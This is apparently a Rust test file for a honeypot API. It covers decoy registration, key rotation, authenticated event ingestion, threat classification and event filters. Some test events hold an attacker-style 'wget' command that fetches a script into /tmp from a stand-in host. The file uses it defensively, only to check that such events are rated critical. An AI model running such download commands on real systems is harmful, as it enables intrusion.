//! Tests for honeypots: registering decoys, their keys, and the events they
//! push (authentication, classification, canonical addresses, time zones,
//! filters).

use chrono::{DateTime, FixedOffset};
use reqwest::Method;
use serde_json::{json, Value};

use crate::support::{encode, Reply};

const INSTANCES: &str = "/security/honeypot/instances";
const EVENTS: &str = "/security/honeypot/events";

/// The instance as listed: the registration answer without its key.
fn without_key(registered: &Reply) -> Value {
    let mut instance = registered.body.clone();
    instance
        .as_object_mut()
        .expect("an object")
        .remove("api_key");
    instance
}

fn ids(reply: &Reply) -> Vec<i64> {
    reply
        .items()
        .iter()
        .map(|item| item["id"].as_i64().expect("an id"))
        .collect()
}

/// `millis` written with a fixed offset of `hours`, e.g. `…T15:00:00+02:00`.
fn with_offset(millis: i64, hours: i32) -> String {
    let offset = FixedOffset::east_opt(hours * 3600).expect("a valid offset");
    DateTime::from_timestamp_millis(millis)
        .expect("in range")
        .with_timezone(&offset)
        .format("%Y-%m-%dT%H:%M:%S%.3f%:z")
        .to_string()
}

/// The first field an invalid-input problem names.
#[track_caller]
fn first_invalid_field(reply: &Reply) -> String {
    reply.body["errors"][0]["field"]
        .as_str()
        .unwrap_or_else(|| panic!("no errors in {}", reply.text))
        .to_string()
}

backend_tests! {
    async fn registering_a_honeypot_shows_its_key_once_and_the_list_never_shows_it(app: TestApp) {
        let registered = app
            .admin_post(
                INSTANCES,
                json!({
                    "name": "fra-ssh-01", "honeypot_type": "ssh", "location": "Frankfurt, DE",
                    "latitude": 50.11, "longitude": 8.68
                }),
            )
            .await
            .expect(201);
        let key = registered.body["api_key"]
            .as_str()
            .expect("a key")
            .to_string();
        assert!(key.len() >= 32, "a key carries at least 128 bits: {key}");
        assert_eq!(
            registered.body,
            json!({
                "id": registered.id(), "name": "fra-ssh-01", "honeypot_type": "ssh",
                "location": "Frankfurt, DE", "latitude": 50.11, "longitude": 8.68,
                "description": null, "is_active": true, "created_at": app.now().to_string(),
                "deactivated_at": null, "last_seen_at": null, "event_count": 0,
                "api_key": key
            })
        );

        let list = app.admin_get(INSTANCES).await.expect(200);
        assert_eq!(
            list.body,
            json!({"items": [without_key(&registered)], "next_cursor": null})
        );
        assert!(!list.text.contains(&key), "the key leaked: {}", list.text);
        assert!(!list.text.contains("api_key"), "{}", list.text);
    }

    async fn a_second_honeypot_with_the_same_name_is_a_conflict(app: TestApp) {
        app.honeypot("fra-ssh-01", "ssh").await;

        let again = app
            .admin_post(
                INSTANCES,
                json!({"name": "fra-ssh-01", "honeypot_type": "web"}),
            )
            .await
            .expect_problem(409);
        assert!(
            again.body["detail"]
                .as_str()
                .unwrap()
                .contains("fra-ssh-01"),
            "{}",
            again.text
        );

        let list = app.admin_get(INSTANCES).await.expect(200);
        assert_eq!(list.items().len(), 1, "{}", list.text);
    }

    async fn an_unknown_honeypot_type_or_an_impossible_position_is_invalid(app: TestApp) {
        let cases = [
            (
                json!({"name": "a", "honeypot_type": "smtp"}),
                "honeypot_type",
            ),
            (
                json!({"name": "b", "honeypot_type": "ssh", "latitude": 91}),
                "latitude",
            ),
            (
                json!({"name": "c", "honeypot_type": "ssh", "latitude": -90.5}),
                "latitude",
            ),
            (
                json!({"name": "d", "honeypot_type": "ssh", "longitude": 180.01}),
                "longitude",
            ),
            (json!({"name": "", "honeypot_type": "ssh"}), "name"),
        ];
        for (body, field) in cases {
            let refused = app
                .admin_post(INSTANCES, body.clone())
                .await
                .expect_problem(422);
            assert_eq!(
                first_invalid_field(&refused),
                field,
                "{body}: {}",
                refused.text
            );
        }

        let edge =
            json!({"name": "pole", "honeypot_type": "custom", "latitude": 90, "longitude": -180});
        app.admin_post(INSTANCES, edge).await.expect(201);
        let list = app.admin_get(INSTANCES).await.expect(200);
        assert_eq!(
            list.items().len(),
            1,
            "only the valid one was stored: {}",
            list.text
        );
    }

    async fn the_instance_list_filters_by_active(app: TestApp) {
        let (first, _) = app.honeypot("first", "ssh").await;
        let (second, _) = app.honeypot("second", "web").await;
        let (third, _) = app.honeypot("third", "database").await;
        app.admin_post(&format!("{INSTANCES}/{second}/deactivate"), json!({}))
            .await
            .expect(200);

        let all = app.admin_get(INSTANCES).await.expect(200);
        assert_eq!(ids(&all), vec![third, second, first]);
        let active = app
            .admin_get(&format!("{INSTANCES}?active=true"))
            .await
            .expect(200);
        assert_eq!(ids(&active), vec![third, first]);
        assert!(active.items().iter().all(|item| item["is_active"] == true));
        let inactive = app
            .admin_get(&format!("{INSTANCES}?active=false"))
            .await
            .expect(200);
        assert_eq!(ids(&inactive), vec![second]);
        assert_eq!(inactive.items()[0]["is_active"], false);
    }

    async fn deactivating_a_honeypot_twice_changes_nothing_the_second_time(app: TestApp) {
        let (id, _) = app.honeypot("fra-ssh-01", "ssh").await;
        let deactivated_at = app.now().to_string();

        let first = app
            .admin_post(&format!("{INSTANCES}/{id}/deactivate"), json!({}))
            .await
            .expect(200);
        assert_eq!(first.body["is_active"], false);
        assert_eq!(first.body["deactivated_at"], deactivated_at.as_str());
        assert!(first.body.get("api_key").is_none(), "{}", first.text);

        app.clock.advance_seconds(3600);
        let second = app
            .admin_post(&format!("{INSTANCES}/{id}/deactivate"), json!({}))
            .await
            .expect(200);
        assert_eq!(second.body, first.body);

        app.admin_post(&format!("{INSTANCES}/987654/deactivate"), json!({}))
            .await
            .expect_problem(404);
        app.admin_post(&format!("{INSTANCES}/987654/rotate-key"), json!({}))
            .await
            .expect_problem(404);
        app.admin_post(&format!("{INSTANCES}/{id}/rotate-key"), json!({}))
            .await
            .expect_problem(409);
    }

    async fn rotating_a_key_makes_the_new_key_work_and_the_old_one_fail(app: TestApp) {
        let (id, old_key) = app.honeypot("fra-ssh-01", "ssh").await;
        let event = json!({"event_type": "scan", "source_ip": "203.0.113.7"});
        app.post_event(&old_key, event.clone()).await.expect(201);

        let rotated = app
            .admin_post(&format!("{INSTANCES}/{id}/rotate-key"), json!({}))
            .await
            .expect(200);
        let new_key = rotated.body["api_key"]
            .as_str()
            .expect("a new key")
            .to_string();
        assert_ne!(new_key, old_key);
        assert_eq!(rotated.id(), id);
        assert_eq!(rotated.body["is_active"], true);

        app.post_event(&old_key, event.clone())
            .await
            .expect_problem(401);
        let stored = app.post_event(&new_key, event).await.expect(201);
        assert_eq!(stored.body["honeypot_id"], id);

        let list = app.admin_get(INSTANCES).await.expect(200);
        assert!(!list.text.contains(&new_key), "{}", list.text);
        assert_eq!(list.items()[0]["event_count"], 2);
    }

    async fn an_event_without_an_active_instance_key_is_unauthorized(app: TestApp) {
        let event = json!({"event_type": "scan", "source_ip": "203.0.113.7"});
        let body = serde_json::to_vec(&event).unwrap();

        let missing = app
            .send_raw(
                Method::POST,
                EVENTS,
                None,
                Some("application/json"),
                body.clone(),
            )
            .await
            .expect_problem(401);
        assert!(missing.body["detail"]
            .as_str()
            .unwrap()
            .contains("X-HONEYPOT-KEY"));
        app.send_raw(
            Method::POST,
            EVENTS,
            Some(&app.admin_token),
            Some("application/json"),
            body,
        )
        .await
        .expect_problem(401);
        app.post_event("hp_not-a-key-anyone-was-given", event.clone())
            .await
            .expect_problem(401);
        app.post_event("", event.clone()).await.expect_problem(401);

        let (id, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let (rotated_id, rotated_away) = app.honeypot("ams-web-01", "web").await;
        app.admin_post(&format!("{INSTANCES}/{rotated_id}/rotate-key"), json!({}))
            .await
            .expect(200);
        app.post_event(&rotated_away, event.clone())
            .await
            .expect_problem(401);

        app.post_event(&key, event.clone()).await.expect(201);
        app.admin_post(&format!("{INSTANCES}/{id}/deactivate"), json!({}))
            .await
            .expect(200);
        app.post_event(&key, event).await.expect_problem(401);

        let events = app.admin_get(EVENTS).await.expect(200);
        assert_eq!(
            events.items().len(),
            1,
            "only the accepted event: {}",
            events.text
        );
    }

    async fn a_failed_login_is_stored_whole_and_classified_as_brute_force(app: TestApp) {
        let (id, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let occurred_at = app.now().minus_seconds(5).to_string();

        let stored = app
            .post_event(
                &key,
                json!({
                    "event_type": "auth_attempt", "source_ip": "203.0.113.7",
                    "source_port": 50122, "destination_port": 22, "protocol": "ssh",
                    "username": "root", "password": "123456", "session_id": "a1b2c3",
                    "payload": {"client": "SSH-2.0-Go"}, "occurred_at": occurred_at
                }),
            )
            .await
            .expect(201);
        assert!(stored.body["is_processed"].is_boolean(), "{}", stored.text);
        let mut body = stored.body.clone();
        body.as_object_mut().unwrap().remove("is_processed");
        assert_eq!(
            body,
            json!({
                "id": stored.id(), "honeypot_id": id, "event_type": "auth_attempt",
                "source_ip": "203.0.113.7", "source_port": 50122, "destination_port": 22,
                "protocol": "ssh", "username": "root", "password": "123456", "command": null,
                "session_id": "a1b2c3", "payload": {"client": "SSH-2.0-Go"},
                "occurred_at": occurred_at, "received_at": app.now().to_string(),
                "threat_level": "low", "threat_tags": ["brute_force"]
            })
        );

        // The detection engine may have judged it meanwhile.
        let mut listed = app.admin_get(EVENTS).await.expect(200).items();
        listed[0].as_object_mut().unwrap().remove("is_processed");
        assert_eq!(listed, vec![body]);
    }

    async fn events_are_classified_by_what_the_attacker_did(app: TestApp) {
        let (_, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let cases = [
            (
                json!({"event_type": "auth_attempt"}),
                "low",
                Some(json!(["brute_force"])),
            ),
            (
                json!({"event_type": "auth_attempt", "payload": {"success": true}}),
                "high",
                Some(json!(["credential_compromise"])),
            ),
            (
                json!({"event_type": "auth_attempt", "payload": {"success": false}}),
                "low",
                Some(json!(["brute_force"])),
            ),
            (
                json!({"event_type": "exploitation",
                       "command": "wget http://198.51.100.99/x.sh -O /tmp/x.sh"}),
                "critical",
                None,
            ),
            (
                json!({"event_type": "exploitation", "command": "uname -a"}),
                "high",
                None,
            ),
            (json!({"event_type": "scan"}), "low", Some(json!(["recon"]))),
            (json!({"event_type": "connection"}), "info", Some(json!([]))),
        ];
        for (mut event, level, tags) in cases {
            event["source_ip"] = json!("203.0.113.7");
            let stored = app.post_event(&key, event.clone()).await.expect(201);
            assert_eq!(
                stored.body["threat_level"], level,
                "{event}: {}",
                stored.text
            );
            match tags {
                Some(tags) => assert_eq!(stored.body["threat_tags"], tags, "{event}"),
                None => assert!(
                    stored.body["threat_tags"]
                        .as_array()
                        .is_some_and(|tags| tags.contains(&json!("exploitation"))),
                    "{event}: {}",
                    stored.text
                ),
            }
        }
    }

    async fn an_event_without_occurred_at_happened_now_and_counts_on_its_instance(app: TestApp) {
        let (id, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let first_at = app.now().to_string();
        let first = app
            .post_event(
                &key,
                json!({"event_type": "connection", "source_ip": "203.0.113.7"}),
            )
            .await
            .expect(201);
        assert_eq!(first.body["occurred_at"], first_at.as_str());
        assert_eq!(first.body["received_at"], first_at.as_str());

        app.clock.advance_seconds(90);
        let second_at = app.now().to_string();
        let backdated = app.now().minus_seconds(3600).to_string();
        app.post_event(
            &key,
            json!({"event_type": "scan", "source_ip": "203.0.113.7", "occurred_at": backdated}),
        )
        .await
        .expect(201);

        let list = app.admin_get(INSTANCES).await.expect(200);
        let instance = &list.items()[0];
        assert_eq!(instance["id"], id);
        assert_eq!(instance["event_count"], 2);
        assert_eq!(instance["last_seen_at"], second_at.as_str());
    }

    async fn source_addresses_are_stored_in_canonical_form(app: TestApp) {
        let (_, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let spellings = [
            ("::ffff:203.0.113.9", "203.0.113.9"),
            ("0:0:0:0:0:ffff:cb00:7109", "203.0.113.9"),
            ("2001:DB8:0:0::0:1", "2001:db8::1"),
            ("198.51.100.4", "198.51.100.4"),
        ];
        for (sent, canonical) in spellings {
            let stored = app
                .post_event(&key, json!({"event_type": "scan", "source_ip": sent}))
                .await
                .expect(201);
            assert_eq!(stored.body["source_ip"], canonical, "{sent}");
        }

        let mapped = encode("::ffff:203.0.113.9");
        let filtered = app
            .admin_get(&format!("{EVENTS}?source_ip={mapped}"))
            .await
            .expect(200);
        assert_eq!(filtered.items().len(), 2, "{}", filtered.text);
    }

    async fn a_bad_source_address_or_port_is_invalid(app: TestApp) {
        let (_, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let cases = [
            (json!({"source_ip": "203.0.113.256"}), "source_ip"),
            (json!({"source_ip": ""}), "source_ip"),
            (json!({"source_ip": "203.0.113.7:22"}), "source_ip"),
            (json!({"source_ip": "attacker.example"}), "source_ip"),
            (
                json!({"source_ip": "203.0.113.7", "source_port": 70000}),
                "source_port",
            ),
            (
                json!({"source_ip": "203.0.113.7", "source_port": -1}),
                "source_port",
            ),
            (
                json!({"source_ip": "203.0.113.7", "destination_port": 70000}),
                "destination_port",
            ),
            (
                json!({"source_ip": "203.0.113.7", "destination_port": -1}),
                "destination_port",
            ),
            (
                json!({"source_ip": "203.0.113.7", "payload": ["not", "an", "object"]}),
                "payload",
            ),
            (
                json!({"source_ip": "203.0.113.7", "payload": "text"}),
                "payload",
            ),
        ];
        for (mut event, field) in cases {
            event["event_type"] = json!("scan");
            let refused = app
                .post_event(&key, event.clone())
                .await
                .expect_problem(422);
            assert_eq!(
                first_invalid_field(&refused),
                field,
                "{event}: {}",
                refused.text
            );
        }

        let edge = json!({"event_type": "scan", "source_ip": "203.0.113.7",
                          "source_port": 65535, "destination_port": 0});
        let stored = app.post_event(&key, edge).await.expect(201);
        assert_eq!(stored.body["source_port"], 65535);
        assert_eq!(stored.body["destination_port"], 0);

        let events = app.admin_get(EVENTS).await.expect(200);
        assert_eq!(
            events.items().len(),
            1,
            "nothing invalid was stored: {}",
            events.text
        );
    }

    async fn occurred_at_with_an_offset_is_stored_as_the_same_instant_in_utc(app: TestApp) {
        let (_, key) = app.honeypot("fra-ssh-01", "ssh").await;
        let now = app.now();
        let expected = now.to_string();
        assert!(expected.ends_with(".000Z"), "{expected}");

        for (source_ip, hours) in [("203.0.113.15", 2), ("203.0.113.16", -5)] {
            let written = with_offset(now.millis(), hours);
            for _ in 0..5 {
                let stored = app
                    .post_event(
                        &key,
                        json!({
                            "event_type": "auth_attempt", "source_ip": source_ip,
                            "username": "guest_q", "occurred_at": written
                        }),
                    )
                    .await
                    .expect(201);
                assert_eq!(stored.body["occurred_at"], expected.as_str(), "{written}");
            }
        }

        let since = encode(&with_offset(now.millis(), 2));
        let listed = app
            .admin_get(&format!("{EVENTS}?since={since}&limit=100"))
            .await
            .expect(200);
        assert_eq!(listed.items().len(), 10, "{}", listed.text);
        assert!(listed
            .items()
            .iter()
            .all(|event| event["occurred_at"] == expected.as_str()));

        let fraction = with_offset(now.millis() + 250, 2);
        let stored = app
            .post_event(
                &key,
                json!({"event_type": "scan", "source_ip": "203.0.113.17",
                                     "occurred_at": fraction}),
            )
            .await
            .expect(201);
        assert_eq!(
            stored.body["occurred_at"],
            with_offset(now.millis() + 250, 0).replace("+00:00", "Z")
        );
    }

    async fn registering_one_name_concurrently_creates_exactly_one_honeypot(app: TestApp) {
        let body = json!({"name": "fra-ssh-01", "honeypot_type": "ssh"});
        let (a, b, c, d) = tokio::join!(
            app.admin_post(INSTANCES, body.clone()),
            app.admin_post(INSTANCES, body.clone()),
            app.admin_post(INSTANCES, body.clone()),
            app.admin_post(INSTANCES, body.clone()),
        );
        let mut statuses: Vec<u16> = [&a, &b, &c, &d].iter().map(|r| r.status.as_u16()).collect();
        statuses.sort_unstable();
        assert_eq!(statuses, [201, 409, 409, 409]);
        for reply in [a, b, c, d]
            .into_iter()
            .filter(|reply| reply.status.as_u16() == 409)
        {
            reply.expect_problem(409);
        }
        let list = app.admin_get(INSTANCES).await.expect(200);
        assert_eq!(list.items().len(), 1, "{}", list.text);
    }

    async fn events_posted_concurrently_are_all_stored_and_counted(app: TestApp) {
        let (first, first_key) = app.honeypot("fra-ssh-01", "ssh").await;
        let (second, second_key) = app.honeypot("ams-web-01", "web").await;
        let post_ten = |key: String, source_ip: &'static str| {
            let app = &app;
            async move {
                for _ in 0..10 {
                    let event = json!({"event_type": "auth_attempt", "source_ip": source_ip});
                    app.post_event(&key, event).await.expect(201);
                }
            }
        };
        tokio::join!(
            post_ten(first_key.clone(), "203.0.113.1"),
            post_ten(first_key, "203.0.113.2"),
            post_ten(second_key.clone(), "203.0.113.3"),
            post_ten(second_key, "203.0.113.4"),
        );

        let list = app.admin_get(INSTANCES).await.expect(200);
        for instance in list.items() {
            assert_eq!(instance["event_count"], 20, "{instance}");
        }
        for id in [first, second] {
            let events = app
                .admin_get(&format!("{EVENTS}?honeypot_id={id}&limit=100"))
                .await
                .expect(200);
            assert_eq!(events.items().len(), 20, "{}", events.text);
        }
    }

    async fn occurred_at_without_an_offset_is_invalid(app: TestApp) {
        let (_, key) = app.honeypot("fra-ssh-01", "ssh").await;
        for written in [
            "2026-12-04T13:00:00",
            "2026-12-04T13:00:00.123",
            "yesterday",
            "1969-12-31T23:59:59Z",
            "10000-01-01T00:00:00Z",
        ] {
            let refused = app
                .post_event(
                    &key,
                    json!({"event_type": "auth_attempt", "source_ip": "203.0.113.15",
                           "occurred_at": written}),
                )
                .await
                .expect_problem(422);
            assert_eq!(
                first_invalid_field(&refused),
                "occurred_at",
                "{}",
                refused.text
            );
        }
        let events = app.admin_get(EVENTS).await.expect(200);
        assert_eq!(events.items(), Vec::<Value>::new());
    }

    async fn the_event_list_filters_by_instance_type_source_level_and_time(app: TestApp) {
        let (ssh, ssh_key) = app.honeypot("fra-ssh-01", "ssh").await;
        let (web, web_key) = app.honeypot("ams-web-01", "web").await;
        let now = app.now();
        let at = |seconds_ago: i64| now.minus_seconds(seconds_ago).to_string();
        let posts = [
            (
                &ssh_key,
                json!({"event_type": "auth_attempt", "source_ip": "203.0.113.10",
                              "occurred_at": at(3600)}),
            ),
            (
                &ssh_key,
                json!({"event_type": "auth_attempt", "source_ip": "203.0.113.10",
                              "payload": {"success": true}, "occurred_at": at(1800)}),
            ),
            (
                &ssh_key,
                json!({"event_type": "scan", "source_ip": "198.51.100.7",
                              "occurred_at": at(600)}),
            ),
            (
                &web_key,
                json!({"event_type": "exploitation", "source_ip": "::ffff:198.51.100.7",
                              "command": "wget http://198.51.100.99/a", "occurred_at": at(60)}),
            ),
            (
                &web_key,
                json!({"event_type": "connection", "source_ip": "2001:db8::7"}),
            ),
        ];
        let mut e = Vec::new();
        for (key, event) in posts {
            e.push(app.post_event(key, event).await.expect(201).id());
        }

        let since = |seconds_ago: i64| encode(&at(seconds_ago));
        let cases = [
            (String::new(), vec![e[4], e[3], e[2], e[1], e[0]]),
            (format!("honeypot_id={ssh}"), vec![e[2], e[1], e[0]]),
            (format!("honeypot_id={web}"), vec![e[4], e[3]]),
            ("honeypot_id=987654".to_string(), vec![]),
            ("event_type=auth_attempt".to_string(), vec![e[1], e[0]]),
            ("event_type=scan".to_string(), vec![e[2]]),
            ("source_ip=198.51.100.7".to_string(), vec![e[3], e[2]]),
            (
                format!("source_ip={}", encode("::ffff:198.51.100.7")),
                vec![e[3], e[2]],
            ),
            (format!("source_ip={}", encode("2001:DB8:0::7")), vec![e[4]]),
            ("threat_level=info".to_string(), vec![e[4]]),
            ("threat_level=low".to_string(), vec![e[2], e[0]]),
            ("threat_level=high".to_string(), vec![e[1]]),
            ("threat_level=critical".to_string(), vec![e[3]]),
            ("threat_level=medium".to_string(), vec![]),
            (
                format!("since={}", since(1800)),
                vec![e[4], e[3], e[2], e[1]],
            ),
            (format!("until={}", since(600)), vec![e[1], e[0]]),
            (
                format!("since={}&until={}", since(1800), since(60)),
                vec![e[2], e[1]],
            ),
            (
                format!("honeypot_id={web}&event_type=connection"),
                vec![e[4]],
            ),
            (
                format!("honeypot_id={ssh}&source_ip=198.51.100.7&threat_level=low"),
                vec![e[2]],
            ),
        ];
        for (query, expected) in cases {
            let reply = app
                .admin_get(&format!("{EVENTS}?{query}"))
                .await
                .expect(200);
            assert_eq!(ids(&reply), expected, "{query}: {}", reply.text);
            assert_eq!(reply.body["next_cursor"], Value::Null, "{query}");
        }

        // Once the engine has caught up, every event is processed. (Before,
        // two lists read one after the other could each miss an event the
        // engine judged between them.)
        app.wait_for_engine().await;
        let processed = app
            .admin_get(&format!("{EVENTS}?processed=true"))
            .await
            .expect(200);
        let unprocessed = app
            .admin_get(&format!("{EVENTS}?processed=false"))
            .await
            .expect(200);
        assert!(unprocessed.items().is_empty(), "{}", unprocessed.text);
        assert!(processed
            .items()
            .iter()
            .all(|event| event["is_processed"] == true));
        assert!(unprocessed
            .items()
            .iter()
            .all(|event| event["is_processed"] == false));
        let mut both = [ids(&processed), ids(&unprocessed)].concat();
        both.sort_unstable();
        assert_eq!(both, e, "every event is processed or not, never both");

        for query in [
            "source_ip=not-an-address",
            "event_type=telnet",
            "threat_level=severe",
            "processed=maybe",
            "since=2026-12-04T13:00:00",
            "honeypot_id=x",
        ] {
            app.admin_get(&format!("{EVENTS}?{query}"))
                .await
                .expect_problem(400);
        }
    }
}
